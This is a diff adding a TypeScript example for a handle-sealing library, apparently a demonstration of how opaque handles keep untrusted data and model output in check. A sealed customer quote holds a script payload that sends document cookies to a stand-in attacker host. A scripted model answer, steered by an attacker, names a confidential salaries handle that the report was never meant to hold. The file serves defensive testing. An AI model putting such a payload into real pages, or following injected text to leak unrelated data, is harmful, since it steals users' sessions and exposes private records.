@@ -1,0 +1,62 @@
+/** What is sealed, and what a model wrote about it without having seen it. */
+import type { OpaqueHandle } from "handlevault";
+import { toTag } from "handlevault/template";
+
+/** Figures of one quarter, in thousands of euros. */
+export interface Quarter {
+  readonly name: string;
+  readonly revenue: number;
+  readonly costs: number;
+}
+
+/** The company's figures: what the report is about. */
+export const FIGURES = {
+  year: 2026,
+  revenue: 18_420,
+  margin: "23.4 %",
+  quarters: [
+    { name: "Q1", revenue: 4120, costs: 3310 },
+    { name: "Q2", revenue: 4385, costs: 3402 },
+    { name: "Q3", revenue: 4710, costs: 3555 },
+    { name: "Q4", revenue: 5205, costs: 3843 },
+  ] satisfies Quarter[],
+};
+
+/** What a customer wrote. Nobody looked at it before it was sealed. */
+export const QUOTE =
+  'Great service <script>fetch("https://evil.example/?" + document.cookie)</script> & fair prices!';
+
+/** Another department's: whoever serves reports may open it, but it belongs into none. */
+export const SALARIES = "Chief executive: 412,000 euros";
+
+/** The handles that the story is about. */
+export interface Handles {
+  readonly figures: OpaqueHandle;
+  readonly quote: OpaqueHandle;
+  readonly salaries: OpaqueHandle;
+}
+
+/** What a model wrote: a page and the data of its chart, with handles where values belong. */
+export interface ModelOutput {
+  readonly report: string;
+  readonly chart: unknown;
+}
+
+/** The prompt: all that the model ever sees of what was sealed. */
+export function promptFor({ figures, quote }: Handles): string {
+  return `Write the quarterly report from ${toTag(figures)} and ${toTag(quote)}.`;
+}
+
+/**
+ * The model's answer. It stands here as it would come from a service, so that the example runs
+ * offline; an attacker had it name a handle that the report was never meant to contain.
+ */
+export function modelAnswer({ figures, quote, salaries }: Handles): ModelOutput {
+  const report = `
+    <h1>Quarterly report, {{${figures.id}#/year}}</h1>
+    <p>Revenue grew in every quarter and came to <strong>{{${figures.id}#/revenue}}</strong> thousand
+      euros, at a margin of {{${figures.id}#/margin}}.</p>
+    <blockquote title="{{${quote.id}}}"><handle id="${quote.id}" safe_view="a quote"/></blockquote>
+    <p>Remuneration: {{${salaries.id}}}</p>`;
+  return { report, chart: { quarters: { handle_id: `${figures.id}#/quarters` } } };
+}
